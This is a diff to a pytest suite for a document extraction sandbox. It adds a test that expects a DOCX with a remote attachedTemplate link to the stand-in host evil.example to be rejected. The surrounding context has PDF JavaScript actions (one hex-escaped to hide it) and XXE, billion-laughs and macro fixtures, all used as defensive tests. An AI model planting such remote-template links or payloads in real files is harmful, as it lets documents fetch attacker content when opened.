@@ -10,6 +10,7 @@ from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 
 import pytest
+from docx.opc.constants import RELATIONSHIP_TYPE as RT
 
 from assessment.extraction import (
     ExtractionSandbox,
@@ -23,6 +24,7 @@ from .corpus import (
     billion_laughs_docx,
     encrypt_pdf,
     external_entity_docx,
+    linked_docx,
     lying_zip_docx,
     macro_docx,
     make_docx,
@@ -43,6 +45,7 @@ HTML_PAGE = (
     b"<ul><li>Python</li><li>SQL</li></ul></body></html>"
 )
 JS_ACTION = "/OpenAction << /S /JavaScript /JS (app.alert\\('pwned'\\)) >>"
+ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
 # The same script hidden in an indirect object, its names hex-escaped (#61 = a, #53 = S).
 HIDDEN_JS = ("<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",)
 
@@ -136,6 +139,10 @@ CASES = [
          True, "ok", "characters", "html", text_has=("intro",)),
     Case("docx-lying-sizes", "forged.docx", lambda: lying_zip_docx(5 << 20, 1000),
          True, "failed", "damaged", "docx"),
+    Case("docx-remote-template", "cv.docx", lambda: linked_docx(ATTACHED_TEMPLATE, "https://evil.example/t.dotm"),
+         True, "failed", "fetch outside content when opened (attachedTemplate link)", "docx"),
+    Case("docx-hyperlink", "cv.docx", lambda: linked_docx(RT.HYPERLINK, "https://example.com/portfolio"),
+         True, "ok", "characters", "docx", text_has=("Linked content inside",)),
     Case("docx-macros", "macro.docx", macro_docx, False, "failed", "contains macros"),
     Case("docx-billion-laughs", "laughs.docx", billion_laughs_docx, True, "failed", "entity amplification", "docx"),
     Case("docx-external-entity", "xxe.docx", external_entity_docx, True, "no_text", "no text", "docx",
